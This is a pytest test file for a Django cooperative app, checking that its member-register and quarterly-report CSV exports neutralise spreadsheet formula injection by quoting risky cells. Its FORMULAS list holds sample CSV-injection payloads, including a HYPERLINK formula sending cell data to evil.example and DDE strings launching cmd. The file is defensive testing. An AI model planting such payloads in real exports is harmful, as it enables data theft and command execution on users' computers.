"""Every CSV coop writes shows a formula-like cell as text (OWASP CSV injection), and keeps
its own numbers, negative ones too, as numbers."""

import csv
import io
from collections.abc import Callable

import pytest
from django.test import Client
from django.urls import reverse

from coop.spreadsheet import csv_text, safe_cell
from finance.quarters import Quarter
from finance.reports.figures import quarter_figures
from finance.reports.render import render_report
from members.models import Branch, Member

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_could_start_a_formula_gets_a_quote_in_front(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Maya Okafor", "12 High St", "2025-01-01", "", "a=b", "O'Neil"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert safe_cell(text) == text


def test_our_own_numbers_stay_numbers_even_negative() -> None:
    assert list(csv.reader(io.StringIO(csv_text([["spending", -1250, 0]])))) == [
        ["spending", "-1250", "0"]
    ]


@pytest.mark.parametrize("value", [1.5, None, True])
def test_anything_but_text_or_a_whole_number_is_a_programming_error(value: object) -> None:
    with pytest.raises(TypeError):
        safe_cell(value)  # type: ignore[arg-type]


def _register(cast) -> str:
    client = Client()
    client.force_login(cast.admin)
    response = client.get(reverse("register-download", kwargs={"fmt": "csv"}))
    assert response.status_code == 200
    return response.content.decode()


def _quarterly_report(cast) -> str:
    figures = quarter_figures(Quarter.current())
    return render_report(figures, version="standard", fmt="csv").decode()


# Every CSV the project writes: the register and the quarterly report.
EXPORTS: dict[str, Callable[..., str]] = {
    "register": _register,
    "quarterly-report": _quarterly_report,
}


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("export", list(EXPORTS))
def test_every_csv_export_shows_a_formula_name_as_text(cast, export: str, text: str) -> None:
    member = cast.member_row
    Member.objects.filter(pk=member.pk).update(first_name=text, known_as="", address=text)
    Branch.objects.filter(pk=member.branch_id).update(name=text)
    cells = [cell for row in csv.reader(io.StringIO(EXPORTS[export](cast))) for cell in row]
    assert any(cell.startswith("'" + text) for cell in cells)
    assert not any(cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
